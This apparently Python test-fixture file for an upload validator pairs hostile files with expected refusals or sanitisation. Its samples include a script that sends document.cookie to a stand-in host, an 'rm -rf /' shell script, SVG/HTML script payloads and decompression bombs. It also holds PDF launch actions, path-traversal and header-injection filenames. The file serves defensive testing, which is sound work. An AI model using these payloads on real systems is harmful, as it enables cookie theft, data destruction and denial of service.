"""Hostile files: those that are refused, with what the person is told, and those that are made harmless."""

import gzip
import struct
import zlib

from tests.archive.corpus.parts import (
    chunk,
    exif,
    gif,
    jpeg,
    jpeg_of_size,
    object_list,
    pdf,
    picture,
    png,
    riff,
    segment,
    zipped,
)

SCRIPT = b"<script>fetch('//x.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ZIP = zipped(**{"hej.txt": b"hej"})
BROKEN, TOO_LARGE_OPEN = "går inte att öppna", "för stor när den öppnas"
PAGE, ARCHIVE, PROGRAM, FILM = (
    "webbsida eller en svg",
    "ett arkiv eller ett Officedokument",
    "är ett program",
    "Film och ljud",
)
FORMAT, ACTIVE, UNKNOWN = "har ett format som vi inte", "som kan köras", "Vi känner inte igen filen"

# name → (bytes, what the person is told)
REFUSED: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "Filen är tom"),
    "white space only": (b" \n\t\r\n", "Filen är tom"),
    "too large": (b"a" * (15 * 1024 * 1024 + 1), "högst 15 MB"),
    # What a browser would run
    "svg": (SVG, PAGE),
    "svg with a declaration": (b'<?xml version="1.0"?>\n' + SVG, PAGE),
    "svg after comments": (b"<!-- en --> <!-- tv\xc3\xa5 -->\n" + SVG, PAGE),
    "svg after a mark of byte order": (b"\xef\xbb\xbf" + SVG, PAGE),
    "html": (b"<!DOCTYPE html><title>x</title>" + SCRIPT, PAGE),
    "html without a beginning": (SCRIPT, PAGE),
    "html after white space": (b"\n\n   \t<html><body onload=alert(1)>", PAGE),
    "html in two-byte characters": ("<html>".encode("utf-16"), PAGE),
    "html in capitals": (b"<IFRAME SRC=javascript:alert(1)>", PAGE),
    "html that goes on as a pdf": (b"<html>" + pdf(b"<< >>"), PAGE),
    "very many comments before html": (b"<!---->" * 280_000 + b"<html>", PAGE),
    "a comment that never ends": (b"<!-- <html>", PAGE),
    "xml that expands": (b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', PAGE),
    # Programs, archives, documents
    "a program for Windows": (b"MZ\x90\0" + b"\0" * 60, PROGRAM),
    "a program for Linux": (b"\x7fELF\2\1\1" + b"\0" * 60, PROGRAM),
    "a program for the shell": (b"#!/bin/sh\nrm -rf /\n", PROGRAM),
    "a zip": (ZIP, ARCHIVE),
    "a zip bomb": (zipped(**{f"{number}.txt": b"\0" * 1_000_000 for number in range(20)}), ARCHIVE),
    "an empty zip": (b"PK\x05\x06" + b"\0" * 18, ARCHIVE),
    "a word document": (zipped(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<d/>"}), ARCHIVE),
    "a rar": (b"Rar!\x1a\x07\x00" + b"\0" * 20, ARCHIVE),
    "a 7z": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 20, ARCHIVE),
    "a gzip bomb": (gzip.compress(b"\0" * 10_000_000), ARCHIVE),
    "an old word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60, "äldre format"),
    # Pictures and films that we do not take
    "a heic": (b"\0\0\0\x18ftypheic" + b"\0" * 20, FORMAT),
    "an avif": (b"\0\0\0\x18ftypavif" + b"\0" * 20, FORMAT),
    "a bmp": (picture("BMP"), FORMAT),
    "a tiff": (picture("TIFF"), FORMAT),
    "an icon": (picture("ICO", (16, 16)), FORMAT),
    "an mp4": (b"\0\0\0\x18ftypmp42" + b"\0" * 20, FILM),
    "a webm": (b"\x1aE\xdf\xa3" + b"\0" * 20, FILM),
    "a wav": (b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 20, FILM),
    "an mp3": (b"ID3\x04\0\0" + b"\0" * 20, FILM),
    # Pictures that would fill the memory
    "a png that says it is huge": (png(width=60_000, height=60_000, data=b""), TOO_LARGE_OPEN),
    "a png bomb": (
        png(width=20_000, height=20_000, depth=1, data=zlib.compress(b"\0" * (2501 * 20_000), 9)), TOO_LARGE_OPEN,
    ),
    "a png that is one endless line": (png(width=0x7FFFFFFF, height=1, data=b""), TOO_LARGE_OPEN),
    "a jpeg that says it is huge": (jpeg_of_size(65_500, 65_500), TOO_LARGE_OPEN),
    "a gif that says it is huge": (gif(width=65_535, height=65_535), TOO_LARGE_OPEN),
    "a gif of very many frames": (gif(frames=20_000), TOO_LARGE_OPEN),
    "a gif of large frames": (gif(frames=200, width=5_000, height=5_000), TOO_LARGE_OPEN),
    "a gif frame outside the picture": (gif(box=(60_000, 60_000)), BROKEN),
    "a webp that says it is huge": (
        riff((b"VP8X", b"\x10\0\0\0" + b"\xff\x3f\0" * 2), (b"ANIM", b"\0" * 6)), TOO_LARGE_OPEN,
    ),
    "a png with a colour profile that grows": (
        png(chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 80_000_000, 9))), BROKEN,
    ),
    # Broken pictures: as evidence they are worth nothing
    "a png that is cut off": (picture("PNG", (60, 60))[:-30], BROKEN),
    "a png with a wrong checksum": (png()[:30] + b"\x99" + png()[31:], BROKEN),
    "a png without a picture": (b"\x89PNG\r\n\x1a\n" + png()[8:33] + chunk(b"IEND", b""), BROKEN),
    "a png of no size": (png(width=0, height=0, data=b""), BROKEN),
    "a png with a chunk longer than the file": (png()[:33] + b"\xff\xff\xff\xffIDAT", BROKEN),
    "only the beginning of a jpeg": (b"\xff\xd8\xff", BROKEN),
    "a jpeg that is cut off": (picture("JPEG", (200, 200))[:-60], BROKEN),
    "a jpeg with a segment longer than the file": (b"\xff\xd8\xff\xdb\xff\xff\0", BROKEN),
    "a gif that is cut off": (gif()[:-6], BROKEN),
    "a webp that is cut off": (picture("WEBP")[:-10], BROKEN),
    "a webp of nothing": (riff(), BROKEN),
    # PDF
    "a pdf with a script": (pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), ACTIVE),
    "a pdf with a script in another spelling": (pdf(b"<< /S /J#61vaScr#69pt >>"), ACTIVE),
    "a pdf with a short script": (pdf(b"<< /AA << /O << /JS (x) >> >> >>"), ACTIVE),
    "a pdf that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    "a pdf with a file in it": (pdf(b"<< /Type /Filespec /EF << /F 2 0 R >> >>", b"<< /Type /EmbeddedFile >>"), ACTIVE),
    "a pdf with a form that sends": (pdf(b"<< /S /SubmitForm /F (http://x.example) >>"), ACTIVE),
    "a pdf with a film": (pdf(b"<< /Subtype /RichMedia >>"), ACTIVE),
    "a pdf with a packed script": (pdf(object_list(b"1 0 << /S /JavaScript /JS (x) >>")), ACTIVE),
    "a pdf bomb": (pdf(object_list(b" " * 60_000_000)), "PDF-filen är för stor när den öppnas"),
    "a pdf of beginnings without ends": (pdf(b"stream\n" * 1_500_000 + b"/S /Launch"), ACTIVE),
    "a pdf of packed lists without ends": (pdf(b"/ObjStm stream\n" * 700_000 + b"/S /Launch"), ACTIVE),
    "a gif of very many small blocks": (gif(extra=b"!\xfe" + b"\1a" * 3_000_000 + b"\0", frames=400), TOO_LARGE_OPEN),
    "a pdf with a password": (pdf(b"<< /Encrypt 2 0 R >>"), "lösenord"),
    "a pdf and a zip": (pdf(b"<< >>", after=ZIP), "efter slutet"),
    "a pdf and a page": (pdf(b"<< >>", after=SCRIPT), "efter slutet"),
    "a pdf that is cut off": (pdf(b"<< >>")[:-20], "avbruten"),
    # Texts, and what is nothing
    "noise": (bytes(range(256)) * 4, "teckenkodning|känner inte igen"),
    "a text with a zero byte": (b"hej\0hej", UNKNOWN),
    "a text that steers a terminal": (b"hej \x1b]0;x\x07", UNKNOWN),
    "a text in an old encoding": ("Räksmörgås".encode("latin-1"), "teckenkodning"),
    "half a two-byte text": (b"\xff\xfea\0b", UNKNOWN),
    "a text that is too large": (b"hej " * 600_000, "Textfilen är för stor"),
    "a jpeg with an archive in its colour profile": (
        jpeg(segment(0xE2, b"ICC_PROFILE\0\1\1" + ZIP)), "två saker på en gång",
    ),
}  # fmt: skip

# name → (bytes, type, what is said to be left out, what must not be in what is stored)
_GPS_XMP = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta exif:GPSLatitude='59,50N'/>"
HARMLESS: dict[str, tuple[bytes, str, list[str], bytes]] = {
    "a jpeg with a position": (picture("JPEG", exif=exif()), "image/jpeg", ["position"], b"Telefon 12"),
    "a jpeg from a camera": (picture("JPEG", exif=exif(position=False)), "image/jpeg", ["camera"], b"Telefon 12"),
    "a jpeg with a position as text": (jpeg(segment(0xE1, _GPS_XMP)), "image/jpeg", ["position"], b"GPSLatitude"),
    "a jpeg with a broken exif": (
        jpeg(segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\xff" + SCRIPT)), "image/jpeg", ["camera"], SCRIPT,
    ),
    "a jpeg with a script as comment": (jpeg(segment(0xFE, SCRIPT)), "image/jpeg", ["text"], SCRIPT),
    "a jpeg with an unknown block": (jpeg(segment(0xED, SCRIPT)), "image/jpeg", ["other"], SCRIPT),
    "a jpeg and a zip": (jpeg(after=ZIP), "image/jpeg", ["appended"], b"hej.txt"),
    "a jpeg and a page": (jpeg(after=SCRIPT), "image/jpeg", ["appended"], SCRIPT),
    "a png with a position": (picture("PNG", exif=exif()), "image/png", ["position"], b"Telefon 12"),
    "a png with a script as text": (png(chunk(b"tEXt", b"a\0" + SCRIPT)), "image/png", ["text"], SCRIPT),
    "a png with a text that grows": (
        png(chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 50_000_000))), "image/png", ["text"], b"zTXt",
    ),
    "a png with an unknown chunk": (png(chunk(b"evIl", SCRIPT)), "image/png", ["other"], SCRIPT),
    "a png and a zip": (png() + ZIP, "image/png", ["appended"], b"hej.txt"),
    "a png that moves": (
        png(chunk(b"acTL", struct.pack(">II", 9, 0)), chunk(b"fdAT", SCRIPT)), "image/png", ["animation"], SCRIPT,
    ),
    "a gif with a script as comment": (
        gif(extra=b"!\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0"), "image/gif", ["text"], SCRIPT,
    ),
    "a gif with an unknown block": (
        gif(extra=b"!\xff\x0bXMP DataXMP" + bytes([len(SCRIPT)]) + SCRIPT + b"\0"), "image/gif", ["other"], SCRIPT,
    ),
    "a gif and a page": (gif() + SCRIPT, "image/gif", ["appended"], SCRIPT),
    "a webp with a position": (picture("WEBP", exif=exif()), "image/webp", ["position"], b"Telefon 12"),
    "a webp with text": (picture("WEBP", xmp=SCRIPT), "image/webp", ["text"], SCRIPT),
    "a webp and a zip": (picture("WEBP") + ZIP, "image/webp", ["appended"], b"hej.txt"),
}  # fmt: skip

# What comes as a name → what it is called when it is kept
NAMES = {
    "../../etc/passwd": "passwd.png",
    "C:\\skrivbord\\bild.exe": "bild.png",
    "bild.png.html": "bild.png.png",
    "bild\u202egnp.exe": "bildgnp.png",
    "CON": "_CON.png",
    "\x00": "fil.png",
    "": "fil.png",
    "<img src=x onerror=alert(1)>.png": "_img src=x onerror=alert(1)_.png",
    'a";filename="b.html': "a_;filename=_b.png",
    "rad\r\nSet-Cookie: x=1": "rad Set-Cookie_ x=1.png",
    "å" * 500: "å" * 116 + ".png",
}
